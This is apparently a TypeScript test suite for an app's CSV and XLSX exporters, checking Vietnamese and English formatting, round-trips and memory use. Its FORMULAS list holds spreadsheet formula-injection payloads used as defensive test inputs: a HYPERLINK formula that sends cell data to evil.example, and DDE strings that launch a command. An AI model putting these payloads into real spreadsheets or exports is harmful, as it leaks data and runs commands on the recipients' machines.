import { unzipSync } from 'fflate';
import readXlsxFile from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';

import { readCsv } from './read-csv';
import { readXlsx } from './read-xlsx';
import { tableOf, type ColumnOf, type Language } from './table';
import { writeCsv } from './write-csv';
import { writeXlsx } from './write-xlsx';

interface Row {
	readonly name: string | null;
	readonly phone?: string;
	readonly pieces?: number;
	readonly dong?: number;
	readonly day?: string;
	readonly at?: number;
}

const COLUMNS: readonly ColumnOf<Row>[] = [
	{ heading: { vi: 'Tên', en: 'Name' }, type: 'text', of: ({ name }) => name },
	{ heading: { vi: 'Điện thoại', en: 'Phone' }, type: 'phone', of: (row) => row.phone ?? null },
	{ heading: { vi: 'Số', en: 'Pieces' }, type: 'integer', of: (row) => row.pieces ?? null },
	{ heading: { vi: 'Tiền', en: 'Money' }, type: 'dong', of: (row) => row.dong ?? null },
	{ heading: { vi: 'Ngày', en: 'Day' }, type: 'day', of: (row) => row.day ?? null },
	{ heading: { vi: 'Lúc', en: 'At' }, type: 'moment', of: (row) => row.at ?? null },
];
/** 31/12/2026, 23:30 in Vietnam: another day in UTC. */
const LATE = Date.UTC(2026, 11, 31, 16, 30);
const FULL: Row = {
	name: 'Mật ong; "bạc hà"',
	phone: '+84912345678',
	pieces: -3,
	dong: 1_234_567,
	day: '2026-12-31',
	at: LATE,
};

/** What people put where a text is asked for, so that somebody else's spreadsheet runs it. */
const FORMULAS = [
	'=HYPERLINK("http://evil.example?x="&A1,"Bấm")',
	"+1+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'＝1+1',
	'Bưởi;=1+1',
	'Bưởi,=1+1',
	'Bưởi\t@SUM(A1)',
	'Bưởi\n=1+1',
	'Bưởi", "=1+1',
];

async function csv(
	rows: readonly Row[],
	language: Language = 'vi',
	columns = COLUMNS,
): Promise<string> {
	let text = '';
	const table = tableOf({ vi: 'Bảng', en: 'Table' }, columns, rows);
	for await (const chunk of writeCsv(table, language)) text += chunk;
	return text;
}

async function xlsx(rows: readonly Row[]): Promise<Buffer> {
	const chunks: Uint8Array[] = [];
	const table = tableOf({ vi: 'Bảng: [1]', en: 'Table' }, COLUMNS, rows);
	for await (const chunk of writeXlsx([table, table], 'vi')) chunks.push(chunk);
	return Buffer.concat(chunks);
}

/** The cells of a line as a program sees them that parts by this character and knows quotes. */
function cellsOf(text: string, separator: string): string[] {
	const cells = [''];
	let isQuoted = false;
	for (const [at, sign] of [...text].entries()) {
		const cell = cells.at(-1) ?? '';
		if (sign === '"' && (isQuoted || cell === '')) isQuoted = !isQuoted;
		else if (!isQuoted && (sign === separator || sign === '\n' || sign === '\r')) cells.push('');
		else cells[cells.length - 1] = cell + ([...text][at] ?? '');
	}
	return cells;
}

describe('CSV', () => {
	it('opens right in a Vietnamese Excel: its mark, semicolons, days and sums as people write them', async () => {
		expect(await csv([FULL])).toBe(
			'\uFEFFTên;Điện thoại;Số;Tiền;Ngày;Lúc\r\n' +
				'"Mật ong; ""bạc hà""";0912 345 678;-3;1234567;31/12/2026;31/12/2026 23:30\r\n',
		);
	});

	it('has commas for readers of English', async () => {
		expect((await csv([{ name: 'Honey' }], 'en')).split('\r\n')).toEqual([
			'\uFEFFName,Phone,Pieces,Money,Day,At',
			'Honey,,,,,',
			'',
		]);
	});

	it.each(FORMULAS)(
		'gives no program a formula, whichever separator it guesses: %j',
		async (name) => {
			// Not first in its line, where a quote is a quote to every program.
			const text = await csv([{ name }], 'vi', [...COLUMNS].reverse());
			for (const separator of [';', ',', '\t', '|']) {
				const cells = cellsOf(text.slice(1), separator);
				const formulas = cells.filter((cell) => /^\s*"?[=+\-@＝]/.test(cell));
				expect(formulas, separator).toEqual([]);
			}
		},
	);

	it.each(['-5', '-1.250.000', 'Chè 2+1', 'a@b.vn', 'Trà - hoa vàng', 'x=y'])(
		'leaves as it is: %s',
		async (name) => {
			expect(await csv([{ name }])).toContain(`\r\n${name};`);
		},
	);

	it('keeps the plus of a number that stands in a text', async () => {
		expect(await csv([{ name: '+84912345678' }])).toContain("\r\n'+84912345678;");
	});

	it('comes back as it was', async () => {
		const names = [...FORMULAS, 'Mật ong', '-5', "it's"];
		const { rows } = await readCsv(Buffer.from(await csv(names.map((name) => ({ name })))));
		expect(rows.slice(1).map(([name]) => name)).toEqual(names);
	});
});

describe('XLSX', () => {
	it('holds texts, numbers, days and moments as what they are', async () => {
		const [first, second] = await readXlsx(await xlsx([FULL]));
		expect(first?.name).toBe('Bảng   1');
		expect(second?.name).toBe('Bảng   1 2');
		expect(first?.rows[1]).toEqual([
			'Mật ong; "bạc hà"',
			'0912 345 678',
			-3,
			1_234_567,
			new Date('2026-12-31T00:00:00Z'),
			new Date('2026-12-31T23:30:00Z'),
		]);
	});

	it.each(FORMULAS)('writes as a text, unchanged: %j', async (name) => {
		const file = await xlsx([{ name }]);
		const sheet = Buffer.from(unzipSync(file)['xl/worksheets/sheet1.xml'] ?? []).toString();
		expect(sheet).not.toMatch(/<f[\s>]/);
		expect(sheet).toContain('t="inlineStr"');
		// XML makes one line end of every kind.
		const read = await readXlsxFile(file, { trim: false });
		expect(read[0]?.data[1]?.[0]).toBe(name.replaceAll('\r', '\n'));
	});

	it('keeps what XML cannot hold out, and what Excel would read as something else as it is', async () => {
		const file = await xlsx([{ name: 'a\u0000b\ud800c<&>_x0041_' }]);
		const sheet = Buffer.from(unzipSync(file)['xl/worksheets/sheet1.xml'] ?? []).toString();
		expect(sheet).toContain('abc&lt;&amp;&gt;_x005F_x0041_');
	});

	it('is never whole in memory, however long', async () => {
		function* many(): Generator<Row> {
			for (let index = 0; index < 100_000; index++) {
				yield { ...FULL, name: `Sản phẩm ${index} ${Math.sin(index)}`, dong: index };
			}
		}
		const table = tableOf({ vi: 'Bảng', en: 'Table' }, COLUMNS, many());
		let bytes = 0;
		let most = 0;
		globalThis.gc?.();
		const before = process.memoryUsage.rss();
		for await (const chunk of writeXlsx([table], 'vi')) {
			bytes += chunk.length;
			most = Math.max(most, process.memoryUsage.rss() - before);
		}
		expect(bytes).toBeGreaterThan(2_000_000);
		// Of write-excel-file the same rows take 700 MB.
		expect(most).toBeLessThan(150_000_000);
	});
});
